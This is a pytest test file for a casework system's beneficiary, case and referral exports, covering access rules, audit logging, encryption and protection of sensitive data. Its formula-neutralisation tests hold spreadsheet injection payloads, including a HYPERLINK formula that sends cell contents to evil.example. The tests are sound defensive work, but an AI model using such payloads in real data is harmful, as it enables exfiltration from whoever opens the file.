"""Individual-level exports (issue 6), as a supervisor or an admin downloads them.

DESIGN.md (Access, Audit and data protection, Contracts): supervisors export their own
office's beneficiaries, cases and referrals, admins every office's; partners and
caseworkers cannot. Every export is audited (filters, columns, format, encryption, rows;
never the password); cells that a spreadsheet would run as a formula are neutralised;
torture and sexual violence stay restricted for whom may not know them; a password gives
an AES-encrypted ZIP; and a large export streams through a temporary file with flat memory.
"""

from __future__ import annotations

import csv
import gc
import io
import json
import tracemalloc
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
import pyzipper
from sqlalchemy import select

from casework.auth.permissions import (
    beneficiaries_with_hidden_story,
    sees_sensitive,
    sensitive_hidden,
    story_hidden,
)
from casework.errors import ValidationError
from casework.extensions import db
from casework.models import Approval, AuditEvent, Beneficiary, Case, ConflictDetails
from casework.reports import exports, stream
from casework.services import approvals, cases, providers, referrals
from tests.factories import BeneficiaryFactory
from tests.pages import field_errors, filled, form_at

TODAY = date.today()
PASSWORD = "long enough passphrase"
DEFAULT_BENEFICIARY_COLUMNS = [
    "registration_number",
    "given_name",
    "family_name",
    "sex",
    "date_of_birth",
    "district",
    "office",
    "created_at",
]


# --- helpers -----------------------------------------------------------------------------


def person(office: str = "KTM", **kwargs) -> Beneficiary:
    b = BeneficiaryFactory(office_code=office, **kwargs)
    db.session.commit()
    return b


def open_case(worker, person_id: int, kind: str = "return_reintegration", **fields) -> Case:
    if kind == "return_reintegration":
        data = {
            "host_country": "QA",
            "return_date": TODAY - timedelta(days=20),
            "return_reason": "abuse_exploitation",
        }
    else:
        data = {
            "victim_categories": ["displaced"],
            "incident_date": date(2001, 6, 15),
            "incident_district_id": 27,
        }
    case = cases.open_case(worker, kind, person_id, {**data, **fields})
    db.session.commit()
    return case


def close(worker, boss, case: Case) -> None:
    cases.transition(worker, case, "closure_pending", case.version, "", "completed")
    db.session.commit()
    item = db.session.scalars(
        select(Approval).where(Approval.case_id == case.id, Approval.status == "pending")
    ).one()
    approvals.decide(boss, item, approve=True, comment="Agreed.")
    db.session.commit()


def make_provider(name: str = "TPO Nepal") -> int:
    provider = providers.create(
        None,
        {
            "name": name,
            "kind": "ngo",
            "services": ["psychosocial", "medical"],
            "district_ids": [27, 4],
            "contact": "01-4431717",
        },
    )
    db.session.commit()
    return provider.id


def refer(worker, case: Case, provider_id: int, service: str = "psychosocial") -> int:
    referral = referrals.create(
        worker,
        case,
        {
            "provider_id": provider_id,
            "service": service,
            "urgency": "normal",
            "reason": "Asks for counselling",
            "consent_obtained": True,
        },
    )
    db.session.commit()
    return referral.id


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:600]
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def csv_dicts(response) -> list[dict[str, str]]:
    header, *rows = csv_rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def xlsx_rows(data: bytes) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [[cell.value for cell in row] for sheet in workbook for row in sheet.iter_rows()]


def error(response, status: int = 422) -> dict:
    assert response.status_code == status, response.get_data(as_text=True)[:600]
    return response.get_json()["error"]


def export_events() -> list[AuditEvent]:
    db.session.expire_all()
    stmt = select(AuditEvent).where(AuditEvent.action.startswith("export."))
    return list(db.session.scalars(stmt.order_by(AuditEvent.id)))


# --- who may export ----------------------------------------------------------------------


@pytest.mark.parametrize("role", ["caseworker", "partner"])
def test_caseworkers_and_partners_cannot_reach_exports(role, login_as, api_as):
    person()
    page = login_as(role)
    assert page.get("/exports/").status_code == 403
    for dataset in exports.DATASETS:
        assert page.get(f"/exports/{dataset}").status_code == 403
        assert page.post(f"/exports/{dataset}", data={"columns": "sex"}).status_code == 403
    assert "/exports/" not in page.get("/").get_data(as_text=True)
    api = api_as(role)
    for dataset in exports.DATASETS:
        assert error(api.get(f"/api/v1/exports/{dataset}"), 403)["code"] == "forbidden"
        # The role is refused before the input is read: bad input changes nothing.
        assert api.get(f"/api/v1/exports/{dataset}?columns=nope&bogus=1").status_code == 403
    assert export_events() == []


def test_supervisors_and_admins_find_exports_in_the_menu(login_as):
    for role in ("supervisor", "admin"):
        html = login_as(role).get("/").get_data(as_text=True)
        assert 'href="/exports/"' in html


def test_a_supervisor_exports_only_their_own_office(api_as):
    ktm = person("KTM", given_name="Kathmandu")
    dmk = person("DMK", given_name="Damak")
    boss = api_as("supervisor", office="KTM")
    rows = csv_dicts(boss.get("/api/v1/exports/beneficiaries"))
    assert [r["registration_number"] for r in rows] == [ktm.registration_number]
    assert dmk.registration_number not in boss.get("/api/v1/exports/beneficiaries").text
    refused = error(boss.get("/api/v1/exports/beneficiaries?office=DMK"))
    assert refused["fields"]["office"] == ["You can export only your own office's records."]
    mine = csv_dicts(boss.get("/api/v1/exports/beneficiaries?office=KTM"))
    assert [r["registration_number"] for r in mine] == [ktm.registration_number]


def test_a_supervisor_exports_own_office_cases_and_referrals(api_as):
    provider = make_provider()
    out = {}
    for office in ("KTM", "DMK"):
        worker = api_as("caseworker", office=office).user
        case = open_case(worker, person(office).id)
        out[office] = (case.case_number, refer(worker, case, provider))
    boss = api_as("supervisor", office="DMK")
    assert [r["case_number"] for r in csv_dicts(boss.get("/api/v1/exports/cases"))] == [
        out["DMK"][0]
    ]
    referral_rows = csv_dicts(boss.get("/api/v1/exports/referrals"))
    assert [(r["id"], r["case_number"]) for r in referral_rows] == [
        (str(out["DMK"][1]), out["DMK"][0])
    ]
    assert referral_rows[0]["provider"] == "TPO Nepal"
    assert referral_rows[0]["status"] == "draft"


def test_an_admin_exports_every_office_or_one(api_as):
    ktm, dmk = person("KTM"), person("DMK")
    admin = api_as("admin", office="KTM")
    response = admin.get("/api/v1/exports/beneficiaries")
    numbers = {r["registration_number"] for r in csv_dicts(response)}
    assert numbers == {ktm.registration_number, dmk.registration_number}
    assert response.headers["X-Export-Rows"] == "2"
    only = csv_dicts(admin.get("/api/v1/exports/beneficiaries?office=DMK"))
    assert [r["registration_number"] for r in only] == [dmk.registration_number]
    assert error(admin.get("/api/v1/exports/beneficiaries?office=XYZ"))["fields"] == {
        "office": ["Unknown office."]
    }


def test_the_download_is_named_after_dataset_office_and_day(api_as):
    person()
    response = api_as("supervisor").get("/api/v1/exports/cases")
    disposition = response.headers["Content-Disposition"]
    assert disposition == f"attachment; filename=casework-cases-KTM-{TODAY.isoformat()}.csv"
    assert response.headers["Cache-Control"] == "no-store"
    all_offices = api_as("admin").get("/api/v1/exports/referrals?format=xlsx")
    assert all_offices.headers["Content-Disposition"].endswith(
        f"casework-referrals-all-{TODAY.isoformat()}.xlsx"
    )
    assert all_offices.mimetype == stream.XLSX_MIMETYPE


# --- columns -------------------------------------------------------------------------------


def test_default_columns_and_a_chosen_set_in_the_chosen_order(api_as):
    b = person(phone="+9779812345678", ward=4, name_ne="सीता श्रेष्ठ")
    boss = api_as("supervisor")
    header, row = csv_rows(boss.get("/api/v1/exports/beneficiaries"))
    assert header == DEFAULT_BENEFICIARY_COLUMNS
    assert row[:5] == [b.registration_number, "Sita", "Shrestha", "female", "1990-05-17"]
    assert row[5:7] == ["Kathmandu", "KTM"]
    chosen = boss.get("/api/v1/exports/beneficiaries?columns=ward,name_ne,registration_number")
    assert csv_rows(chosen) == [
        ["ward", "name_ne", "registration_number"],
        ["4", "सीता श्रेष्ठ", b.registration_number],
    ]


def test_every_column_of_every_dataset_exports(api_as):
    worker = api_as("caseworker").user
    b = person(consent_purposes=["registration", "referral"], vulnerabilities=["disability"])
    case = open_case(worker, b.id)
    refer(worker, case, make_provider())
    boss = api_as("supervisor")
    for name, spec in exports.DATASETS.items():
        keys = [c.key for c in spec.columns]
        response = boss.get(f"/api/v1/exports/{name}?columns={','.join(keys)}")
        (row,) = csv_dicts(response)
        assert list(row) == keys
    (row,) = csv_dicts(boss.get("/api/v1/exports/beneficiaries?columns=consent_purposes"))
    assert row == {"consent_purposes": "registration, referral"}
    (row,) = csv_dicts(
        boss.get("/api/v1/exports/cases?columns=case_number,host_country,assigned_to,camp")
    )
    assert row == {
        "case_number": case.case_number,
        "host_country": "QA",
        "assigned_to": worker.username,
        "camp": "",
    }


def test_an_unknown_column_is_refused_naming_the_field(api_as):
    boss = api_as("supervisor")
    refused = error(boss.get("/api/v1/exports/cases?columns=case_number,password_hash"))
    assert list(refused["fields"]) == ["columns"]
    assert refused["fields"]["columns"][0].startswith("Unknown column: password_hash.")
    assert export_events() == []


def test_unknown_parameters_and_bad_values_are_refused_not_ignored(api_as):
    boss = api_as("supervisor")
    # A misspelt filter would otherwise export everything.
    assert "stauts" in error(boss.get("/api/v1/exports/cases?stauts=closed"))["fields"]
    assert "kind" in error(boss.get("/api/v1/exports/referrals?kind=resettlement"))["fields"]
    assert "format" in error(boss.get("/api/v1/exports/cases?format=pdf"))["fields"]
    assert "status" in error(boss.get("/api/v1/exports/cases?status=draft"))["fields"]
    assert "from" in error(boss.get("/api/v1/exports/cases?from=yesterday"))["fields"]
    assert (
        "district_id" in error(boss.get("/api/v1/exports/beneficiaries?district_id=999"))["fields"]
    )
    assert export_events() == []


# --- filters -------------------------------------------------------------------------------


def test_beneficiary_filters_search_district_sex_and_registration_days(api_as):
    sita = person(given_name="Laxmi", family_name="Tamang", sex="female", district_id=27)
    ram = person(given_name="Ram", family_name="Thapa", sex="male", district_id=4)
    old = person(given_name="Hari", sex="male", district_id=4)
    old.created_at = datetime.now(UTC) - timedelta(days=40)
    db.session.commit()
    boss = api_as("supervisor")

    def numbers(query: str) -> set[str]:
        rows = csv_dicts(boss.get(f"/api/v1/exports/beneficiaries?{query}"))
        return {r["registration_number"] for r in rows}

    assert numbers("q=lakshmi") == {sita.registration_number}  # the list's spelling tolerance
    assert numbers("sex=male") == {ram.registration_number, old.registration_number}
    assert numbers("district_id=4&sex=male") == {ram.registration_number, old.registration_number}
    since = (TODAY - timedelta(days=7)).isoformat()
    assert numbers(f"from={since}") == {sita.registration_number, ram.registration_number}
    until = (TODAY - timedelta(days=30)).isoformat()
    assert numbers(f"to={until}") == {old.registration_number}
    refused = error(boss.get(f"/api/v1/exports/beneficiaries?from={since}&to={until}"))
    assert refused["fields"] == {"to": ["The end date is before the start date."]}


def test_open_cases_only_and_other_case_filters(api_as):
    worker = api_as("caseworker").user
    other = api_as("caseworker").user
    boss = api_as("supervisor")
    open_one = open_case(worker, person().id)
    closed = open_case(worker, person().id)
    close(worker, boss.user, closed)
    victim = open_case(other, person().id, kind="conflict_victim")

    def numbers(query: str = "") -> set[str]:
        return {r["case_number"] for r in csv_dicts(boss.get(f"/api/v1/exports/cases?{query}"))}

    assert numbers() == {open_one.case_number, closed.case_number, victim.case_number}
    assert numbers("open=true") == {open_one.case_number, victim.case_number}
    assert numbers("status=closed") == {closed.case_number}
    assert numbers("kind=conflict_victim") == {victim.case_number}
    assert numbers(f"assigned_to={other.username}") == {victim.case_number}
    (row,) = csv_dicts(boss.get("/api/v1/exports/cases?status=closed&columns=closed_at"))
    closed_at = datetime.strptime(row["closed_at"], "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)
    assert abs(datetime.now(UTC) - closed_at) < timedelta(minutes=5)  # written in UTC
    assert "assigned_to" in error(boss.get("/api/v1/exports/cases?assigned_to=nobody"))["fields"]


def test_referral_filters(api_as):
    worker = api_as("caseworker").user
    case = open_case(worker, person().id)
    provider = make_provider()
    medical = refer(worker, case, provider, service="medical")
    refer(worker, case, provider, service="psychosocial")
    boss = api_as("supervisor")
    rows = csv_dicts(boss.get("/api/v1/exports/referrals?service=medical"))
    assert [r["id"] for r in rows] == [str(medical)]
    assert csv_dicts(boss.get("/api/v1/exports/referrals?status=sent")) == []


# --- what a spreadsheet must not run -------------------------------------------------------

FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "family_name": "+SUM(1,2)",
    "name_ne": "@cmd",
    "phone": "-2+3",
}


def test_formulas_are_neutralised_in_csv(api_as):
    person(**FORMULAS)
    columns = ",".join(FORMULAS)
    (row,) = csv_dicts(api_as("supervisor").get(f"/api/v1/exports/beneficiaries?columns={columns}"))
    assert row == {key: "'" + value for key, value in FORMULAS.items()}


def test_formulas_are_neutralised_in_xlsx_and_values_keep_their_types(api_as):
    b = person(**FORMULAS, ward=7)
    columns = ",".join([*FORMULAS, "ward", "date_of_birth", "consent_given"])
    response = api_as("supervisor").get(
        f"/api/v1/exports/beneficiaries?format=xlsx&columns={columns}"
    )
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = workbook.active
    assert sheet.title == "beneficiaries"
    cells = list(sheet.iter_rows(min_row=2))[0]
    for cell, value in zip(cells[:4], FORMULAS.values(), strict=True):
        assert cell.data_type == "s"  # text, not a formula ("f")
        assert cell.value == "'" + value
    assert cells[4].value == 7
    assert cells[5].value == datetime(1990, 5, 17)
    assert cells[6].value == "yes"
    assert b.registration_number not in [c.value for c in cells]


def test_xlsx_rows_past_a_sheet_continue_on_the_next(api_as, monkeypatch):
    monkeypatch.setattr(stream, "XLSX_MAX_ROWS", 2)
    made = [person().registration_number for _ in range(5)]
    response = api_as("supervisor").get(
        "/api/v1/exports/beneficiaries?format=xlsx&columns=registration_number"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["beneficiaries", "beneficiaries 2", "beneficiaries 3"]
    per_sheet = [[r[0].value for r in sheet.iter_rows()] for sheet in workbook]
    assert per_sheet == [
        ["registration_number", *made[0:2]],
        ["registration_number", *made[2:4]],
        ["registration_number", made[4]],
    ]
    assert response.headers["X-Export-Rows"] == "5"


# --- encryption ----------------------------------------------------------------------------


def test_an_encrypted_export_opens_with_its_password_only(api_as):
    b = person()
    response = api_as("supervisor").get(
        "/api/v1/exports/beneficiaries?columns=registration_number",
        headers={"X-Export-Password": PASSWORD},
    )
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    name = f"casework-beneficiaries-KTM-{TODAY.isoformat()}"
    assert response.headers["Content-Disposition"] == f"attachment; filename={name}.zip"
    assert b.registration_number.encode() not in response.data
    with pyzipper.AESZipFile(io.BytesIO(response.data)) as archive:
        assert archive.namelist() == [f"{name}.csv"]
        with pytest.raises(RuntimeError, match="requires a password"):
            archive.read(f"{name}.csv")
        archive.setpassword(b"a wrong password!")
        with pytest.raises(RuntimeError, match="Bad password"):
            archive.read(f"{name}.csv")
        archive.setpassword(PASSWORD.encode())
        content = archive.read(f"{name}.csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content))) == [
        ["registration_number"],
        [b.registration_number],
    ]


def test_an_encrypted_xlsx_holds_the_workbook(api_as):
    b = person()
    response = api_as("admin").get(
        "/api/v1/exports/beneficiaries?format=xlsx&columns=registration_number",
        headers={"X-Export-Password": PASSWORD},
    )
    with pyzipper.AESZipFile(io.BytesIO(response.data)) as archive:
        archive.setpassword(PASSWORD.encode())
        (member,) = archive.namelist()
        assert member.endswith(".xlsx")
        assert xlsx_rows(archive.read(member)) == [
            ["registration_number"],
            [b.registration_number],
        ]


def test_a_short_password_is_refused(api_as):
    person()
    boss = api_as("supervisor")
    for short in ("", "eleven char"):
        refused = error(boss.get("/api/v1/exports/cases", headers={"X-Export-Password": short}))
        assert list(refused["fields"]) == ["X-Export-Password"]
    assert export_events() == []
    with pytest.raises(ValidationError) as caught:
        exports.export(boss.user, "cases", password="short")
    assert caught.value.fields == {"password": ["At least 12 characters."]}


# --- the audit log ---------------------------------------------------------------------------


def test_every_export_is_audited_with_filters_and_rows_but_never_the_password(api_as):
    for _ in range(3):
        person(sex="female")
    person(sex="male")
    boss = api_as("supervisor")
    response = boss.get(
        f"/api/v1/exports/beneficiaries?sex=female&from={TODAY.isoformat()}"
        "&columns=registration_number,sex&format=xlsx",
        headers={"X-Export-Password": PASSWORD},
    )
    assert response.status_code == 200
    (event,) = export_events()
    assert event.action == "export.beneficiaries"
    assert (event.object_type, event.object_id) == ("export", "beneficiaries")
    assert event.username == boss.user.username
    assert event.changes == {
        "filters": {"from": TODAY.isoformat(), "office": "KTM", "sex": "female"},
        "columns": ["registration_number", "sex"],
        "format": "xlsx",
        "encrypted": True,
        "language": "en",
        "calendar": "ad",
        "rows": 3,
    }
    everything = json.dumps([e.changes for e in db.session.scalars(select(AuditEvent))])
    assert PASSWORD not in everything


def test_the_audit_counts_every_row_of_a_plain_export(api_as):
    worker = api_as("caseworker").user
    for _ in range(3):
        open_case(worker, person().id)
    admin = api_as("admin")
    assert len(csv_dicts(admin.get("/api/v1/exports/cases?open=1"))) == 3
    (event,) = export_events()
    assert event.changes["rows"] == 3
    assert event.changes["encrypted"] is False
    assert event.changes["filters"] == {"open": True}
    assert event.changes["columns"] == [c.key for c in exports.CASES.defaults]


# --- torture and sexual violence -------------------------------------------------------------


def test_restricted_categories_and_vulnerabilities_are_hidden_from_admins(api_as):
    worker = api_as("caseworker").user
    survivor = person(vulnerabilities=["disability", "torture_survivor"])
    secret = open_case(
        worker, survivor.id, kind="conflict_victim", victim_categories=["torture", "displaced"]
    )
    plain = open_case(worker, person().id, kind="conflict_victim")
    columns = "case_number,victim_categories"
    admin = api_as("admin")
    by_case = {
        r["case_number"]: r
        for r in csv_dicts(admin.get(f"/api/v1/exports/cases?columns={columns}"))
    }
    assert by_case[secret.case_number]["victim_categories"] == "restricted"
    assert by_case[plain.case_number]["victim_categories"] == "displaced"
    people = csv_dicts(
        admin.get("/api/v1/exports/beneficiaries?columns=registration_number,vulnerabilities")
    )
    shown = {r["registration_number"]: r["vulnerabilities"] for r in people}
    assert shown[survivor.registration_number] == "disability"
    xlsx = admin.get(f"/api/v1/exports/cases?columns={columns}&format=xlsx")
    assert ["torture" in str(v) for row in xlsx_rows(xlsx.data) for v in row] == [False] * 6
    # The office's supervisor may know, and sees them.
    boss = api_as("supervisor")
    by_case = {
        r["case_number"]: r for r in csv_dicts(boss.get(f"/api/v1/exports/cases?columns={columns}"))
    }
    assert by_case[secret.case_number]["victim_categories"] == "displaced, torture"
    people = csv_dicts(
        boss.get("/api/v1/exports/beneficiaries?columns=registration_number,vulnerabilities")
    )
    shown = {r["registration_number"]: r["vulnerabilities"] for r in people}
    assert shown[survivor.registration_number] == "disability, torture_survivor"


def test_the_export_rules_for_sensitive_cases_agree_with_the_record_rules(make_user):
    """The SQL forms used by exports decide as sees_sensitive and
    beneficiaries_with_hidden_story do, for every kind of user."""
    worker = make_user("caseworker", "KTM")
    users = [
        worker,
        make_user("caseworker", "KTM"),
        make_user("supervisor", "KTM"),
        make_user("supervisor", "DMK"),
        make_user("admin", "KTM"),
    ]
    told = person()
    open_case(worker, told.id, kind="conflict_victim", victim_categories=["sexual_violence"])
    open_case(worker, person().id, kind="conflict_victim")
    open_case(worker, person().id)
    ids = list(db.session.scalars(select(Beneficiary.id)))
    all_cases = list(db.session.scalars(select(Case)))
    for user in users:
        hidden = set(db.session.scalars(select(Beneficiary.id).where(story_hidden(user))))
        assert hidden == beneficiaries_with_hidden_story(user, ids), user.role
        restricted = set(
            db.session.scalars(
                select(Case.id)
                .outerjoin(ConflictDetails, ConflictDetails.case_id == Case.id)
                .where(sensitive_hidden(user))
            )
        )
        expected = {
            c.id
            for c in all_cases
            if c.conflict_details and c.conflict_details.sensitive and not sees_sensitive(user, c)
        }
        assert restricted == expected, user.role
    assert len({frozenset(beneficiaries_with_hidden_story(u, ids)) for u in users}) == 2


# --- the page --------------------------------------------------------------------------------


def test_the_page_offers_columns_filters_and_downloads_a_csv(login_as):
    b = person()
    person("DMK")
    page = login_as("supervisor")
    html = page.get("/exports/").get_data(as_text=True)
    assert 'href="/exports/cases"' in html and 'href="/exports/referrals"' in html
    html = page.get("/exports/beneficiaries").get_data(as_text=True)
    form = form_at(html, "/exports/beneficiaries")
    assert form.getlist("columns") == DEFAULT_BENEFICIARY_COLUMNS  # ticked by default
    assert form.getlist("office") == ["KTM"]  # a supervisor's only choice
    response = page.post(
        "/exports/beneficiaries", data=filled(form, columns=["registration_number", "phone"])
    )
    assert response.headers["Content-Disposition"].endswith(f"KTM-{TODAY.isoformat()}.csv")
    assert csv_rows(response) == [["registration_number", "phone"], [b.registration_number, ""]]
    (event,) = export_events()
    assert event.changes["rows"] == 1


def test_an_admin_chooses_the_office_on_the_page(login_as):
    person("KTM")
    dmk = person("DMK")
    page = login_as("admin")
    form = form_at(
        page.get("/exports/beneficiaries").get_data(as_text=True), "/exports/beneficiaries"
    )
    assert form.getlist("office") == [""]  # all offices, by default
    response = page.post("/exports/beneficiaries", data=filled(form, office="DMK", format="xlsx"))
    assert response.status_code == 200
    rows = xlsx_rows(response.data)
    assert [r[0] for r in rows[1:]] == [dmk.registration_number]


def test_the_page_downloads_an_encrypted_zip_of_cases(login_as):
    page = login_as("supervisor")
    worker = login_as("caseworker").user
    case = open_case(worker, person().id)
    form = form_at(page.get("/exports/cases").get_data(as_text=True), "/exports/cases")
    response = page.post(
        "/exports/cases",
        data=filled(form, open_only="y", password=PASSWORD, confirm=PASSWORD),
    )
    assert response.status_code == 200
    with pyzipper.AESZipFile(io.BytesIO(response.data)) as archive:
        archive.setpassword(PASSWORD.encode())
        content = archive.read(archive.namelist()[0]).decode("utf-8-sig")
    assert case.case_number in content
    (event,) = export_events()
    assert event.changes["encrypted"] is True and event.changes["filters"]["open"] is True


BAD_FORMS = [
    pytest.param(
        {"password": "too short", "confirm": "too short"},
        "password",
        "At least 12 characters.",
        id="short-password",
    ),
    pytest.param(
        {"password": PASSWORD, "confirm": PASSWORD + "!"},
        "confirm",
        "The passwords differ.",
        id="mismatch",
    ),
    pytest.param(
        {"date_from": "2026-02-30"}, "date_from", "Not a valid date value.", id="bad-date"
    ),
    pytest.param(
        {"date_from": "2026-03-02", "date_to": "2026-03-01"},
        "date_to",
        "The end date is before the start date.",
        id="from-after-to",
    ),
    pytest.param(
        {"columns": "password_hash"},
        "columns-0",
        "Unknown column: password_hash.",
        id="unknown-column",
    ),
    pytest.param({"columns": None}, "columns-0", "Choose at least one column.", id="no-column"),
]


@pytest.mark.parametrize(("changes", "field_id", "message"), BAD_FORMS)
def test_bad_input_on_the_page_is_shown_on_its_field(login_as, changes, field_id, message):
    person()
    page = login_as("supervisor")
    form = form_at(page.get("/exports/referrals").get_data(as_text=True), "/exports/referrals")
    response = page.post("/exports/referrals", data=filled(form, **changes))
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert any(m.startswith(message) for m in field_errors(html, field_id)), field_errors(
        html, field_id
    )
    assert PASSWORD not in html  # a password is never sent back
    assert export_events() == []


def test_a_dataset_that_does_not_exist_is_not_found(login_as):
    assert login_as("admin").get("/exports/households").status_code == 404


def test_the_api_document_describes_the_exports(api_as):
    doc = api_as("supervisor").get("/api/v1/openapi.json").get_json()
    for dataset in exports.DATASETS:
        operation = doc["paths"][f"/api/v1/exports/{dataset}"]["get"]
        names = {p["name"] for p in operation["parameters"]}
        assert {"format", "columns", "from", "to", "office", "X-Export-Password"} <= names
    cases_names = {p["name"] for p in doc["paths"]["/api/v1/exports/cases"]["get"]["parameters"]}
    assert {"kind", "status", "open", "assigned_to"} <= cases_names


# --- memory ----------------------------------------------------------------------------------


def _bulk_people(count: int, start: int) -> None:
    """Rows inserted with Core, thousands at a time (no ORM objects, no factories)."""
    table = Beneficiary.__table__
    for offset in range(0, count, 5000):
        db.session.execute(
            table.insert(),
            [
                {
                    "registration_number": f"KTM-2026-{start + n:06d}",
                    "office_code": "KTM",
                    "given_name": f"Sita{start + n}",
                    "family_name": "Shrestha",
                    "name_ne": "सीता श्रेष्ठ",
                    "sex": "female",
                    "date_of_birth": date(1990, 5, 17),
                    "nationality": "NP",
                    "phone": "+9779812345678",
                    "district_id": 27,
                    "ward": 4,
                    "vulnerabilities": ["disability", "single_parent"],
                    "consent_given": True,
                    "consent_purposes": ["registration", "assistance"],
                }
                for n in range(offset, min(offset + 5000, count))
            ],
        )
    db.session.commit()


def _export(actor, fmt: str, password: str | None, columns: list[str]):
    return exports.export(actor, "beneficiaries", columns=columns, fmt=fmt, password=password)


def _peak(actor, fmt: str, password: str | None, columns: list[str]) -> tuple[int, int]:
    """The most memory Python held while the export was written, and its rows."""
    gc.collect()
    tracemalloc.start()
    try:
        result = _export(actor, fmt, password, columns)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    result.file.close()
    db.session.rollback()
    return peak, result.rows


EVERY_COLUMN = [c.key for c in exports.BENEFICIARIES.columns]
# XlsxWriter is slow under tracemalloc: fewer columns, the same rows and kinds of value.
SOME_COLUMNS = ["registration_number", "name_ne", "date_of_birth", "ward", "created_at"]


@pytest.mark.parametrize(
    ("fmt", "password", "columns"),
    [("csv", None, EVERY_COLUMN), ("xlsx", None, SOME_COLUMNS), ("csv", PASSWORD, EVERY_COLUMN)],
    ids=["csv", "xlsx", "zip"],
)
def test_memory_stays_flat_when_the_rows_grow_tenfold(make_user, fmt, password, columns):
    boss = make_user("supervisor")
    _bulk_people(2_000, 0)
    _export(boss, fmt, password, columns).file.close()  # imports, compiled statements, caches
    db.session.rollback()
    small, rows = _peak(boss, fmt, password, columns)
    assert rows == 2_000
    _bulk_people(18_000, 2_000)
    large, rows = _peak(boss, fmt, password, columns)
    assert rows == 20_000
    # Ten times the rows (megabytes more output) barely move the peak: rows stream through
    # a bounded buffer into a temporary file instead of piling up in memory.
    assert large < 1.5 * small, (small, large)
    assert large < 8 * 1024 * 1024, (small, large)
